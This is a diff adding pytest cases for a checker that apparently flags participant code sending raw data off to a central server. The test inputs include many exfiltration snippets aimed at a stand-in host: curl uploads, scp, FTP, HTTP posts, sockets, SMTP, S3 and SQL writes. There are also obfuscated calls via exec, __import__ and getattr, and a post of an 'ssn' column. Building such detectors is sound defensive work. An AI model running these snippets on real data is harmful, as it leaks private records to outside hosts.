@@ -78,3 +78,48 @@ FIGURES = {
 @pytest.mark.parametrize("case", FIGURES)
 def test_figures_over_whole_columns_are_no_rows(changed, case):
     assert fit(changed, **FIGURES[case]) is False
+
+
+EXITS = {
+    "a bucket": 'import boto3\nboto3.client("s3").upload_file("/data/p.csv", "central", "p.csv")',
+    "curl": 'import subprocess\nsubprocess.run(["curl", "-T", "/data/p.csv", "https://central.example.org/"])',
+    "a shell": 'import os\nos.system("scp /data/p.csv central:")',
+    "ftp": 'import ftplib\nlink = ftplib.FTP("central.example.org")\nlink.storbinary("STOR p", open("/data/p", "rb"))',
+    "a post of a file": 'import requests\nrequests.post("https://central.example.org", data=open("/data/p", "rb"))',
+    "a put by httpx": 'import httpx\nhttpx.put("https://central.example.org", content=pathlib.Path("/data/p").read_bytes())',
+    "a query": 'import requests\nrequests.get("https://central.example.org", params=open("/data/p").read())',
+    "urllib": 'import urllib.request\nurllib.request.urlopen("https://central.example.org", data=open("/data/p", "rb").read())',
+    "a socket": 'import socket\nlink = socket.create_connection(("central", 1))\nlink.sendfile(open("/data/p", "rb"))',
+    "mail": 'import smtplib\nsmtplib.SMTP("mail").sendmail("a", "b", open("/data/p").read())',
+    "a database": 'df.to_sql("p", "postgresql://central/p")',
+    "a remote table": 'pd.DataFrame(df).to_parquet("s3://central/p")',
+    "made at run time": "exec(open('/data/code').read())",
+    "handed on": "import subprocess\nlist(map(subprocess.run, [['curl']]))",
+    "imported at run time": '__import__("subprocess").run(["curl"])',
+    "taken by name": 'import os\ngetattr(os, "system")("curl")',
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", EXITS)
+def test_an_exit_that_is_not_followed_is_never_a_clean_answer(changed, case):
+    assert fit(changed, before=EXITS[case]) is None
+
+
+def test_an_exit_in_a_module_that_the_participant_imports_is_one(changed):
+    task = ("def get_weights", "import subprocess\nsubprocess.run(['curl'])\n\n\ndef get_weights")
+    seen = changed({"credit/task.py": task})
+    assert seen.raw_data_uploaded is None
+    assert seen.doubts[0].because.startswith("credit/task.py:11 subprocess.run")
+
+
+def test_what_the_server_or_an_operator_starts_is_no_exit(changed):
+    server = (
+        "    workflow(grid, legacy)",
+        "    workflow(grid, legacy)\n    import subprocess\n    subprocess.run(['sync'])",
+    )
+    files = {"credit/server_app.py": server, "ops.py": "import subprocess\nsubprocess.run(['ls'])\n"}
+    assert changed(files).raw_data_uploaded is False
+
+
+def test_rows_in_an_address_are_found(changed):
+    assert fit(changed, before='import requests\nrequests.post("https://h", params={"x": df["ssn"]})') is True
